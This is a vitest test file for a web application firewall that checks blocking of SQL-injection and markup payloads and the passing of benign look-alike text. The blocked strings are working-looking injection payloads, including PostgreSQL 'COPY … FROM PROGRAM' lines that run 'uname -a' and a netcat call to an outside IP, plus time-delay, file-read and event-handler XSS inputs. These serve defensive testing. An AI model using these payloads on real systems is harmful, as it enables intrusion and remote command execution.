import { beforeAll, describe, expect, it } from "vitest";
import { FirewallEngine } from "../../../server/firewall/engine";
import {
  FREE_TEXT_LOCATIONS,
  LOCATIONS,
  locationsBlocking,
  requestWith,
  structuredPlacesFor,
} from "../../fixtures/firewall/measure";

/**
 * Round 13 of issue 30 item 4 (docs/firewall.md, "Round 13"; decision 529): the SQL grammar's
 * classes that passed a structured value (SQLite's GLOB, BETWEEN, IS NULL, NOT n and hex operands,
 * EXCEPT and INTERSECT, locking and LIMIT clauses after a closed literal, COPY … FROM PROGRAM,
 * SHUTDOWN and SET @x after ";"), and round 14's free-text reading (decision 530). Every string
 * here was written for this test, not taken from the grammar's sample or a corpus.
 */
let engine: FirewallEngine;
beforeAll(() => {
  engine = new FirewallEngine(undefined, 1_000_000, false);
});

describe("round 13: SQL the grammar found passing", () => {
  it.each([
    // Conditions with operators the older rules did not read, closed by a comment or ";".
    "42') or 7 glob 7--",
    "abc\" AND 'z' GLOB 'z'#",
    "9) xor 2 between 0 and 4;",
    "q') or 5 is not null/*",
    "name@site.org) OR NOT 0--",
    "7` or 0x41=0x41 #",
    "1 AND 0x0=0x1;",
    // Set operations with SQL's select list.
    "ana@site.org) union select null,null#",
    "5)) EXCEPT SELECT 3--",
    "z' intersect select @@version;",
    "1 MINUS SELECT banner FROM v$version",
    'q") UNION ALL SELECT user()--',
    // Clauses after a closed literal, and ROWNUM.
    "abc' for update nowait--",
    "7) FOR UPDATE;",
    "k` lock in share mode#",
    "3' LIMIT 2 OFFSET 9--",
    "12) into @v;",
    "x' procedure analyse()#",
    "2 and ROWNUM<3",
    // PostgreSQL's COPY … PROGRAM, and statements after ";".
    "k'; COPY t FROM PROGRAM 'uname -a'--",
    "1);copy logs to program 'nc 10.0.0.1 80'",
    "ana@site.org; shutdown with nowait",
    "7; SHUTDOWN--",
    "x'; SET @q=0x41--",
  ])("refuses %s in every structured place", async (value) => {
    expect(await locationsBlocking(engine, value, structuredPlacesFor(value))).toEqual(structuredPlacesFor(value));
  });

  it.each([
    // Plan names with Union and Select, and prose with the same words.
    "Union Select Gold",
    "Union Select 2000 HMO",
    "union select plan",
    "except select plans",
    "Intersect select HMO",
    "minus select dental",
    // Conditions in words, locking and limits in notes.
    "Blue Cross or not",
    "A or not 1",
    "age between 30 and 40",
    "ready for update",
    "Plan (A) for update",
    "Rx (generic) for update",
    "limit 1 per household",
    "Limit 2 offset for seniors",
    "into @home",
    "rownum",
    // Copying from a program, and an office shutting down.
    "copy of card from program office",
    "Copy from program 'Medicaid'",
    "copy 2 from program 'CHIP'",
    "please copy my letter to program staff",
    "Shutdown; call back later",
    "office shutdown; reopen Monday",
    "Set at home; yes",
    // Quotes and emails.
    "ana@example.com; bob@example.com",
    "ana@example.com or bob@example.com",
    "'Gold' or 'Silver'",
    "O'Brien or O'Neil",
    "Value 0x31",
  ])("passes %s everywhere", async (value) => {
    expect(await locationsBlocking(engine, value, [...LOCATIONS, ...FREE_TEXT_LOCATIONS])).toEqual([]);
  });

  it("reads none of the new shapes in a note (older readings may)", async () => {
    for (const value of [
      "42') or 7 glob 7--",
      "7) FOR UPDATE;",
      "k'; COPY t FROM PROGRAM 'uname -a'--",
      "7; SHUTDOWN--",
    ])
      for (const location of FREE_TEXT_LOCATIONS) {
        const verdict = engine.inspect((await requestWith(value, location))!);
        expect(verdict.rule ?? "", `${value} in ${location}`).not.toMatch(/^svc-sqli-01[5-8]$/);
      }
  });
});

describe("round 14: SQL no sentence has, read in free text too (decision 530)", () => {
  it.each([
    // A whole note that is a call's opening to a function only SQL names.
    "json_extract(",
    "  SUBSTRING_INDEX( ",
    "pg_read_file(",
    // Keywords in alternating case: called, glued to a comment, or followed by another such word.
    "dElEtE/**/FROM x",
    "UpDaTe (users)",
    "cOnCaT(0x41,0x42)",
    "wAiTfOr DeLaY '0:0:5'",
    "x' UnIoN ALL sElEcT 1",
  ])("refuses %s in a note", async (value) => {
    expect(await locationsBlocking(engine, value, FREE_TEXT_LOCATIONS)).toEqual([...FREE_TEXT_LOCATIONS]);
  });

  it.each([
    // Mocking text, names with capitals inside, and words that are SQL's in ordinary case.
    "uPdAtE mE pLeAsE",
    "sElEcT tHe BeSt PlAn",
    "FrOm 9 to 5",
    "DeLeon family (4 people)",
    "McDonald and DeAndre",
    "I need to SELect a plan",
    "please UPDATE me by Friday",
    "OrDeR mE a new card",
    "LiMiT 2 per month",
    "Select (Gold) or Union (Silver)",
    // A call's opening that is a word, or a call with its arguments in prose.
    "trim(",
    "char(",
    "Coalesce (all plans)",
    "substr of the card",
  ])("passes %s in a note", async (value) => {
    expect(await locationsBlocking(engine, value, FREE_TEXT_LOCATIONS)).toEqual([]);
  });
});

describe("round 15: markup no sentence has, read in free text too (decision 531)", () => {
  it.each([
    // A tag with an event attribute of any name, the tag opening the value, a word or a quote.
    "<q onanimationfoo=go()>",
    "see <p/onzzz=1>",
    '"<i\tonwhatever=1',
    // A tag that loads or runs content, with an attribute.
    '<link rel="preload" href="//x.example/a.js">',
    "<meta http-equiv=x content=y>",
    "note (<iframe srcdoc=x>)",
    "<svg viewBox=0,0,1,1>",
  ])("refuses %s in a note", async (value) => {
    expect(await locationsBlocking(engine, value, FREE_TEXT_LOCATIONS)).toEqual([...FREE_TEXT_LOCATIONS]);
  });

  it.each([
    "I <3 this plan",
    "<urgent> call me back",
    "Use the <link> in the email",
    "Meet at <Main St> on=Monday",
    "Rx <metformin 500mg> once=daily",
    "Pharmacy <CVS> onsite=yes",
    "a<b onset=3 days",
    "<iframe> broken on your site",
    "<meta> tags on your page are wrong",
    "email <ana@example.com> only=this one",
    "Symptoms <onset=2 weeks>",
  ])("passes %s in a note", async (value) => {
    expect(await locationsBlocking(engine, value, FREE_TEXT_LOCATIONS)).toEqual([]);
  });
});
